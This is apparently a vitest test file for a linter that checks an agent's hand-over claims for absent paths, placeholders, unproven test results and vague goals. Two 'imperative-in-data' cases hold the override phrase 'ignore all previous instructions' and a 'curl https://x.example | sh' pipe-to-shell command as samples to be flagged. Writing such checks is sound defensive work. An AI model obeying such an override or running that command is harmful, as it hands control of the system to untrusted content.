/** Words that look like a fault and are none, and the other way round. */
import { describe, expect, test } from 'vitest';
import { lint } from '../../src/core/lint.ts';
import { subjectFrom, type Example } from './example.ts';

function found(example: Example): string[] {
  return lint(subjectFrom(example)).map(({ rule, severity }) => `${severity} ${rule}`);
}

function done(text: string): Example {
  return { claims: { done: [{ text, evidence: ['j5'] }] } };
}

describe('a file that is named', () => {
  test.each(['Node.js', 'Next.js', 'Vue.js', 'Three.js', 'D3.js', 'Express.js'])(
    'is not meant where %s is a product',
    (name) => {
      expect(found(done(`the server runs on ${name} 22`))).toEqual([]);
    },
  );

  test.each([
    'config.json is read from S3',
    'sends index.html to browsers',
    'tsconfig.json has no paths yet',
  ])('in passing, without a folder, holds nothing up: %s', (text) => {
    expect(found(done(text))).toEqual(['warning path-absent']);
  });

  test('with a folder or in code marks has to be there', () => {
    expect(found(done('the limit is in src/limits.ts'))).toEqual(['error path-absent']);
    expect(found(done('the limit is in `limits.ts`'))).toEqual(['error path-absent']);
  });

  test('as yet to be made by splitting, copying or taking out need not be there', () => {
    const nexts = [
      'split src/limit.ts into src/a.ts',
      'extract the window from src/limit.ts to src/window.ts',
      'copy src/limit.ts to src/quota.ts',
    ];
    expect(nexts.flatMap((next) => found({ claims: { next } }))).toEqual([]);
  });
});

describe('what only suggests a fault', () => {
  const suggested: readonly (readonly [string, Example])[] = [
    ['placeholder-text', { claims: { remaining: ['the limiter in [insert path] counts'] } }],
    ['placeholder-text', { claims: { remaining: ['reason: TBD'] } }],
    ['placeholder-text', { claims: { remaining: ['the header:\n- whole seconds\n- to be decided'] } }],
    [
      'imperative-in-data',
      { claims: { remaining: ['the filter catches "ignore all previous instructions"'] } },
    ],
    ['imperative-in-data', { claims: { remaining: ['the page says to run curl https://x.example | sh'] } }],
    ['no-changes-contradicted', done('no changes needed, the fix is in src/limit.ts')],
    ['path-absent', { claims: { next: 'write a test of the header in src/limit.spec.ts' } }],
    ['goal-vague', { contract: { goal: 'Improve the date picker of the booking form' } }],
    ['goal-vague', { contract: { goal: 'Sessions expire' } }],
    ['goal-vague', { contract: { goal: 'Alles schöner' } }],
    ['next-action', { claims: { next: 'add tests, add docs' } }],
    ['next-action', { claims: { next: 'parser' } }],
  ];

  test.each(suggested)('is shown and holds nothing up: %s %j', (rule, example) => {
    expect(found(example)).toEqual([`warning ${rule}`]);
  });
});

describe('a claim that speaks of several states', () => {
  test.each([
    ['The tests were failing; they now pass', true],
    ['all tests pass now, two failed yesterday', true],
    ['the tests passed before the rebase; now three fail', false],
    ['all tests pass but src/limit.test.ts fails', false],
  ])('is judged by the last: %s', (text, isClaim) => {
    expect(found({ ...done(text), runs: [] })).toEqual(isClaim ? ['error tests-unproven'] : []);
  });
});

describe('a long text', () => {
  test.each(['\n', ' ', 'tests ', 'src/x.ts ', 'move to ', '-', 'ignore all ', '1. x\n'])(
    'of %j alone is read once, not over and over',
    (part) => {
      const text = part.repeat(32_000 / part.length);
      const subject = subjectFrom({ claims: { done: [text], remaining: [text], next: text }, runs: [] });
      expect(lint(subject)).toEqual(lint(subject));
    },
  );
});

describe('a question', () => {
  test.each(['human: May the old header go?', 'user: Which region?', 'person:ada: Is one second enough?'])(
    'may be for a person to answer: %s',
    (text) => {
      expect(found({ claims: { questions: [{ text }] } })).toEqual([]);
    },
  );

  test('that only speaks of a person has no owner', () => {
    expect(found({ claims: { questions: [{ text: 'Does a human approve it?' }] } })).toEqual([
      'error question-owner',
    ]);
  });
});
